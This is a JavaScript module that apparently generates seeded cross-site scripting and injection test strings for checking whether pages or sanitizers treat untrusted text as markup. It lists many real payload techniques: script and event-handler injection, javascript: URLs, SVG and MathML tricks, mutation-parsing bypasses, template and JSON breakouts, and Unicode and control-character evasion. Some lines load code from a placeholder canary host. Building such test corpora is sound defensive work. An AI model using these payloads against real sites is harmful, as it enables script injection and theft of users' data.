/*
 * Text that would run, load or rebuild something if a page ever took it for more than text.
 * payloads(seed, count) is the same list for the same seed.  Each calls witness(N), asks for
 * http://canary.test/N, or marks an element with wN, N being its number; what does none of these
 * tries to end the JSON, the attribute or the line that it stands in.
 */
function random(seed) {
  let a = seed >>> 0;
  return () => { // mulberry32
    a = (a + 0x6d2b79f5) >>> 0;
    let t = Math.imul(a ^ (a >>> 15), 1 | a);
    t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t;
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const EVENTS = ["onerror", "onload", "onclick", "onfocus autofocus", "onmouseover", "onanimationstart", "ontoggle open", "onbegin", "onpageshow", "onpointerenter"];
const TAGS = ["img src=x", "svg", "body", "video src=x", "audio src=x", "iframe", "details", "input", "marquee", "object data=x", "embed src=x", "math", "select", "textarea", "style", "link rel=stylesheet href=x", "animate attributeName=x dur=1s", "x", "image href=x", "button"];
const ENDS = ["", "\"", "'", "`", "\">", "'>", "</", "-->", "]]>", "</title>", "</textarea>", "</style>", "</script>", "</noscript>", "</template>", "\"}", "'}", "*/", "\\\"", "\\", "${", "{{", "&quot;>", "%22%3E", "\u2028", "\u2029"];
const SCHEMES = ["javascript:", "JaVaScRiPt:", "java\u200bscript:", "javascript&colon;", "&#106;avascript:", "&#x6A;avascript&#58;", "data:text/html,", "data:text/html;base64,", "vbscript:", "blob:", "view-source:javascript:", "feed:javascript:"];

/* Each family: (choose, n) to text.  choose(list) takes one, choose(number) a number below it. */
const FAMILIES = {
  script: (c, n) => `${c(ENDS)}<${c(["script", "ScRiPt", "SCRIPT", "scr\u0131pt", "script/x", "script\u00a0"])}${c(["", " ", " type=module", " src=//canary.test/" + n, " nonce=x", "/"])}>${c(["witness(N)", "self['wit'+'ness'](N)", "top.witness(N)", "import('//canary.test/N')", "eval('witness(N)')", "Function`witness(N)`()", "[N].map(witness)", "setTimeout('witness(N)')"])}${c(["</script>", "</ScRiPt >", "</script/>", "<!--", ""])}`,
  handler: (c) => `${c(ENDS)}<${c(TAGS)} class=wN ${c(EVENTS)}${c(["=", " = "])}${c(["witness(N)", "\"witness(N)\"", "'witness(N)'", "`witness(N)`", "&#119;itness(N)", "\\u0077itness(N)", "witness&lpar;N&rpar;"])}${c([">", "//", " ", "/>", ""])}`,
  attribute: (c) => `${c(["\"", "'", "`", "\" ", "' ", "x "])}${c(EVENTS)}=${c(["witness(N)", "\"witness(N)", "'witness(N)"])} ${c(["x=\"", "x='", "//", ""])}`,
  address: (c, n) => `${c(["", "<a class=wN href=\"", "<iframe class=wN src='", "<form class=wN action=", "<base href=", "<meta http-equiv=refresh content=\"0;url=", "<object data=", "<img class=wN src="])}${c(SCHEMES)}${c(["witness(N)", "//%0awitness(N)", "<script>witness(N)</script>", "//canary.test/" + n])}${c(["", "\">x</a>", "'>", ">"])}`,
  svg: (c, n) => `<svg class=wN${c(["", " onload=witness(N)", " xmlns='http://www.w3.org/2000/svg'"])}>${c(["<script>witness(N)</script>", "<animate onbegin=witness(N) attributeName=x dur=1s>", "<use href='//canary.test/" + n + "#x'>", "<foreignObject><img src=x onerror=witness(N)></foreignObject>", "<a href='javascript:witness(N)'><text>x</text></a>", "<image href='//canary.test/" + n + "'/>", "<set attributeName=onload to=witness(N)>", "<handler>witness(N)</handler>"])}</svg>`,
  mathml: (c) => `<math class=wN><${c(["maction actiontype=statusline xlink:href='javascript:witness(N)'", "mtext><table><mglyph><style><img src=x onerror=witness(N)>", "annotation-xml encoding='text/html'><script>witness(N)</script", "mi href='javascript:witness(N)'", "semantics><mtext></form><form><mglyph><style></math><img src onerror=witness(N)>"])}>x</math>`,
  mutation: (c) => c(["<noscript><p title=\"</noscript><img src=x onerror=witness(N)>\">", "<listing>&lt;img src=x onerror=witness(N)&gt;</listing>", "<svg></p><style><a id=\"</style><img src=1 onerror=witness(N)>\">", "<form><math><mtext></form><form><mglyph><style></math><img src onerror=witness(N)>", "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=witness(N)&gt;\">", "<template><style></template><img src=x onerror=witness(N)></style>", "<a><table><a></table><b id=\"</a><img src=x onerror=witness(N)>\">", "<xmp><p title=\"</xmp><svg/onload=witness(N)>\">", "<select><iframe></select><img src=x onerror=witness(N)>", "<textarea><img title=\"</textarea><img src onerror=witness(N)>\">"]) + c(["", "x", " ", "<!---->"]),
  template: (c) => c(["{{", "${", "<%=", "#{", "{%", "[[", "*{", "{!", "@(", "{{{"]) + c(["constructor.constructor('witness(N)')()", "$on.constructor('witness(N)')()", "7*7", "self.witness(N)", "''.sub.call.call({}[\"constructor\"].getOwnPropertyDescriptor,N)", "__proto__.x=witness(N)"]) + c(["}}", "}", "%>", "]]", ")", "}}}"]),
  css: (c, n) => c(["<style class=wN>", "</style><style>", "x}", "\";", "expression(", "<div class=wN style=\"", "@import '", "*/"]) + c([`*{background:url(//canary.test/${n})}`, `@import url(//canary.test/${n});`, `a[href^=x]{background:url(//canary.test/${n})}`, "x:expression(witness(N))", "-moz-binding:url(//canary.test/N#x)", "behavior:url(#x)", "position:fixed;inset:0;z-index:9999", `@font-face{font-family:x;src:url(//canary.test/${n})}`]) + c(["</style>", "\">", "'", ")"]),
  json: (c) => c(["\"}", "\\\"}", "\"]}", "\u0022}", "\\u0022}", "\",\"error\":\"", "null}", "</script>", "]}'", "\\\\\""]) + c([",\"x\":\"", ";witness(N);//", "<script>witness(N)</script>", ",{\"__proto__\":{\"x\":N}}", "\"__proto__\":\"wN\"", "\u2028witness(N)\u2029", "<!--<script>", "]]></x><script>witness(N)</script>"]),
  broken: (c) => c(["\ufffd<script>", "\u00ad<scr\u00adipt>", "<\u0303script>", "\uff1cscript\uff1e", "\u02bb<img/\u200bsrc=x", "<scr\u200bipt>", "+ADw-script+AD4-", "%3Cscript%3E", "&lt;script&gt;", "&#60;script&#62;", "\\x3cscript\\x3e", "\\u003cscript\\u003e", "\u{e003c}script", "\ufeff<script>"]) + "witness(N)" + c(["</script>", "\uff1c/script\uff1e", "%3C/script%3E", "\u{10ffff}", "\u{1f4a3}", "e\u0301\u0301\u0301\u0301\u0301", ""]),
  bidi: (c) => c(["", "PASS ", "2026-01-01 "]) + c(["\u202e", "\u202d", "\u2066", "\u2067", "\u2068", "\u202a", "\u202b", "\u200f", "\u061c"]) + c([")N(ssentiw<", "wN dessap", ">tpircs<N", "SSAP wN"]) + c(["\u202c", "\u2069", ""]),
  control: (c) => "wN" + c(["\u0000", "\u0001", "\u0008", "\u000b", "\u001b[2J", "\u001b]0;x\u0007", "\u007f", "\u0085", "\u009b31m", "\t", "\r\n", "\n\n"]) + c(["<script>witness(N)</script>", "x", "\u0000"]),
};
export const families = Object.keys(FAMILIES);

/* ${count} different ones; each {number, family, text}. */
export function payloads(seed, count) {
  const next = random(seed), list = [], seen = new Set();
  const choose = (what) => (Array.isArray(what) ? what[Math.floor(next() * what.length)] : Math.floor(next() * what));
  const turn = (text) => { // any casing, padding and doubling
    const how = next();
    if (how < 0.1) return text.replace(/[a-z]/g, (letter) => (next() < 0.3 ? letter.toUpperCase() : letter));
    if (how < 0.2) return text.replaceAll("<", "<<");
    if (how < 0.3) return text.replace(" ", "/");
    if (how < 0.35) return text.replaceAll("<", "&lt;");
    return text;
  };
  for (let tries = 0; list.length < count && tries < 50 * count; tries++) {
    const family = families[list.length % families.length], number = list.length;
    const text = turn(FAMILIES[family](choose, number).replace(/(?<![a-z])N(?![a-z])|(?<=w)N/g, String(number)));
    if (seen.has(text)) continue;
    seen.add(text);
    list.push({ number, family, text });
  }
  return list;
}

/* The text cut to what a field takes, at a whole character. */
export function cut(text, bytes) {
  let out = "", used = 0;
  for (const letter of text) {
    used += Buffer.byteLength(letter);
    if (used > bytes) break;
    out += letter;
  }
  return out;
}
